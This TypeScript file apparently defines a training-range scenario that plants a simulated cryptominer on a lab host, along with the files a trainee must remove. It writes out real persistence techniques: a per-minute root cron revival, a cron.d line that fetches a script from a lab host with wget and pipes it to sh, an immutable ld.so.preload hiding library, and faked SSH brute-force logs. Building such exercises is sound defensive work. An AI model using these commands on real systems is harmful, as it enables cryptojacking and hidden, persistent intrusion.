// The classic: a miner started by cron every minute when it is missing, hidden by a locked preload library, talking to its pool,
// after somebody guessed root's password. One preload line is the owner's and must stay.
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { standIn } from '../stand-ins/stand-ins.ts'
import { decoyFiles, decoyProcesses, legitimatePreload, plantDecoys } from './decoys.ts'
import { fakeWallet, untilMining } from './mining.ts'
import { put, putCrontab, putProgram } from './plant.ts'
import type { Scenario } from './scenario.ts'

const payload = '/var/tmp/.lab_cache/lab_kworkd'
const store = '/usr/lib/.lab_store/lab_core'
const library = '/usr/local/lib/lab_libsystem.so'
const arguments_ = `-B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x`
const cronLine = `* * * * * [ -e ${payload} ] || { mkdir -p /var/tmp/.lab_cache; cp ${store} ${payload}; }; ${payload} ${arguments_} >/dev/null 2>&1`
const fetchLine = `* * * * * root wget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1`

export const hiddenMiner: Scenario = {
  name: 'hidden-miner',
  about: 'a miner revived by cron every minute and hidden by a locked preload library, after a guessed password',
  plant: async (host) => {
    await plantDecoys(host)
    plantDownloads(host)
    plantLogs(host)
    putProgram(host, store, standIn('labminer'), { daysOld: 0 })
    putProgram(host, payload, standIn('labminer'), { daysOld: 0 })
    putCrontab(
      host,
      'root',
      `# m h  dom mon dow   command\n0 5 * * 0 tar -zcf /var/backups/home.tgz /home\n${cronLine}\n`,
      { daysOld: 0 },
    )
    put(host, '/etc/cron.d/sysupdate', `${fetchLine}\n`, { daysOld: 0 })
    put(host, library, readFileSync(standIn('labhide')), { mode: 0o755, flags: 'i', daysOld: 0 })
    put(host, '/etc/ld.so.preload', `${legitimatePreload}\n${library}\n`, { flags: 'i', daysOld: 0 })
    await host.startIn('cron.service', [payload, ...arguments_.split(' ')])
    await untilMining(host, hiddenMiner)
  },
  hostileFiles: [
    { path: payload, remove: 'whole' },
    { path: '/var/spool/cron/crontabs/root', remove: { lines: [cronLine] } },
    { path: '/etc/cron.d/sysupdate', remove: 'whole' },
    { path: '/etc/ld.so.preload', remove: { lines: [library] }, flags: 'i' },
    { path: library, remove: 'whole', flags: 'i' },
  ],
  dormantFiles: [{ path: store, remove: 'whole' }],
  attackerFolders: ['/var/tmp/.lab_cache', '/usr/lib/.lab_store'],
  hostileProcesses: [{ contains: payload }],
  decoyFiles,
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: [payload, '/var/spool/cron/crontabs/root', '/etc/cron.d/sysupdate', '/etc/ld.so.preload', library],
}

/** What the cron.d line fetches: puts the miner back from the network when both copies are gone, and starts it. */
function plantDownloads(host: RangeHost): void {
  mkdirSync(host.downloads, { recursive: true })
  copyFileSync(standIn('labminer'), join(host.downloads, 'lab_miner'))
  writeFileSync(
    join(host.downloads, 'lab_update.sh'),
    `[ -x ${payload} ] || { mkdir -p /var/tmp/.lab_cache; wget -q -O ${payload} http://${world.downloads}/lab_miner; chmod 755 ${payload}; }
${payload} ${arguments_}
`,
  )
}

/** Forty failures, one success, as sshd writes them. */
function plantLogs(host: RangeHost): void {
  const start = Date.now() - 3 * 3_600_000
  const line = (second: number, text: string) => {
    const at = new Date(start + second * 1000)
    const stamp = `${at.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' })} ${String(at.getUTCDate()).padStart(2)} ${at.toISOString().slice(11, 19)}`
    return `${stamp} ${host.name} sshd[${1200 + second}]: ${text} from ${world.attacker} port ${40_000 + second} ssh2\n`
  }
  const failures = Array.from({ length: 40 }, (_, at) =>
    line(at * 3, `Failed password for ${at % 4 === 0 ? 'invalid user admin' : 'root'}`),
  )
  put(host, '/var/log/auth.log', `${failures.join('')}${line(121, 'Accepted password for root')}`, {
    mode: 0o640,
    group: 'adm',
    daysOld: 0,
  })
}
